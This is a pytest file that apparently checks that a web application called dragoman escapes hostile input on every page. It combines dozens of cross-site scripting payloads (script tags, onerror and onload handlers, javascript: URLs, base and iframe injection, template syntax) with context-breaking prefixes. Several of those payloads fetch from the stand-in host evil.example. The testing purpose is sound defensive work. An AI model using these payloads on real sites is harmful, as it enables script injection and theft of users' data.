"""Words that would be markup or script, in every place where words can come from: no page runs or fetches any."""

from collections.abc import Callable, Iterator
from datetime import date, timedelta
from itertools import islice, product
from pathlib import Path
from typing import TYPE_CHECKING

import pytest
from tests.keeping.telling import table
from tests.serve.desk import serving
from tests.serve.web.conftest import watched

from dragoman.archive import open_archive
from dragoman.serve.rest.app import app_of
from dragoman.serve.rest.desk import Desk, Limits
from dragoman.serve.web.navigation import NAVIGATION

if TYPE_CHECKING:
    from playwright.sync_api import Browser, Page

FEW, MANY, IN_A_REPORT = 60, 2_000, 20
RUN = (
    "window.ran=1",
    "top.ran=1",
    "ran=1",
    "Function('ran=1')()",
    "fetch('//evil.example/{0}')",
    "import('//evil.example/{0}')",
)
OPENED = (
    "",
    "</p>",
    '">',
    "'>",
    "-->",
    "]]>",
    "</script>",
    "</style>",
    "</textarea>",
    "</title>",
    "</svg>",
    '\\">',
    "`>",
)
RAN = "%22%3E%3Cscript%3Eran%3D1%3C/script%3E"  # in a query
CLEAN = "window.ran === undefined && document.querySelectorAll('base, iframe, object, embed').length === 0"
MARKUP = (
    "<script>{0}</script>", "<ScRiPt\n>{0}</sCrIpT>", "<script src=//evil.example/{1}></script>",
    "<img src=x onerror={0}>", "<img/src='x'/onerror={0}>", "<svg onload={0}>", "<svg><script>{0}</script></svg>",
    "<body onload={0}>", "<iframe src=javascript:{0}></iframe>", "<iframe srcdoc='<script>{0}</script>'></iframe>",
    "<a href=javascript:{0} autofocus onfocus={0}>x</a>", "<input autofocus onfocus={0}>",
    "<details open ontoggle={0}>",
    "<video src=//evil.example/{1}></video>", "<link rel=stylesheet href=//evil.example/{1}>",
    "<style>@import '//evil.example/{1}';</style>", "<meta http-equiv=refresh content='0;url=javascript:{0}'>",
    "<base href=//evil.example/>", "<object data=javascript:{0}></object>", "<embed src=//evil.example/{1}>",
    "<math><mi xlink:href=javascript:{0}>x</mi></math>", "<form action=//evil.example/{1}><button>x</button></form>",
    "<img src=//evil.example/{1}>", "{{{{ ''.__class__ }}}}<b>{0}</b>", "{{% raw %}}{0}",
    "&lt;script&gt;{0}&lt;/script&gt;",
    "<img src=x style=background:url(//evil.example/{1}) onerror={0}>", "\u202e<script>{0}</script>", "javascript:{0}",
    "<template><script>{0}</script></template>", "<noscript><p title='</noscript><img src=x onerror={0}>'>",
)  # fmt: skip


def payloads() -> Iterator[str]:
    """Payloads, every way to run with every way out of a text and every markup."""
    for number, (run, opened, markup) in enumerate(product(RUN, OPENED, MARKUP)):
        yield opened + markup.format(run.format(number), number)


def spread(count: int) -> list[str]:
    """So many payloads, from all of them evenly."""
    every = list(dict.fromkeys(payloads()))  # what runs nothing is the same whatever would be run
    return list(islice((every[round(i * len(every) / count) % len(every)] for i in range(count)), count))


def hostile(folder: Path, words: list[str]) -> Path:
    """A store in which the words stand in title, outlet, URL and text of reports, in judgements and names."""
    lines = []
    for number in range(0, len(words), IN_A_REPORT):
        some = words[number : number + IN_A_REPORT]
        told = " ".join(
            f"Drones of the RSF struck a market in El Fasher on Friday, killing {12 + i} people, {each} said. "
            f'"{each}", the governor said. Sudan demands that the RSF withdraw from {each}.'
            for i, each in enumerate(some)
        )
        lines.append(
            {"text": told, "title": some[0], "source": some[-1], "url": f"https://x.example/{number}?{some[1]}",
             "published": f"{date(2026, 1, 2) + timedelta(days=number // IN_A_REPORT):%Y-%m-%d}"}  # not all one strike
        )  # fmt: skip
    with open_archive(folder / "store") as archive:
        list(archive.add(table(folder / f"{words[1][:20].replace('/', '')}.jsonl", lines)))
        findings = [telling.finding.id for record in archive.records() for telling in record.tellings]
        for finding, each in zip(findings, words, strict=False):
            archive.judge("accept", finding, by=each[:80], reason=each)
            archive.judge("edit", finding, by=each[:80], reason=each, sets=("content", each))
    return folder / "store"


def visited(page: "Page", archive_of: Desk) -> int:
    """Open every page, all reports, and some records with what can be asked of them; return how many."""
    archive = archive_of.archive
    records, processes = list(archive.records())[:40], archive.processes()[:5]
    paths = [place.path for place in NAVIGATION] + [f"/evidence/{each.id}" for each in archive.documents()]
    paths += [f"{base}/{each.id}" for each in records for base in ("/records", "/review/record")]
    paths += [
        f"{base}{each.id}" for each in processes for base in ("/process/", "/positions?process=", "/brief?process=")
    ]
    paths += [f"/sign-in?then={RAN}", f"/codebook?q={RAN}"]
    for path in paths:
        answer = page.goto(path)
        assert answer is not None
        assert answer.status == 200, path
        assert page.evaluate(CLEAN), path
    return len(paths)


def check(browser: "Browser", folder: Path, count: int, desk_over: Callable[..., Desk]) -> None:
    words = spread(count)
    assert len(set(words)) == count
    desk = desk_over(hostile(folder, words), limits=Limits(calls=100_000))
    with serving(app_of(desk)) as address, watched(browser, address) as page:
        page.set_default_timeout(120_000)  # a brief over hundreds of reports of one day is long
        page.on("dialog", lambda dialog: pytest.fail(f"a dialog: {dialog.message}"))
        assert visited(page, desk) > 10


def test_a_sample_of_payloads_runs_nowhere(browser: "Browser", tmp_path: Path, desk_over: Callable[..., Desk]) -> None:
    check(browser, tmp_path, FEW, desk_over)


@pytest.mark.slow
def test_two_thousand_payloads_run_nowhere(browser: "Browser", tmp_path: Path, desk_over: Callable[..., Desk]) -> None:
    check(browser, tmp_path, MANY, desk_over)
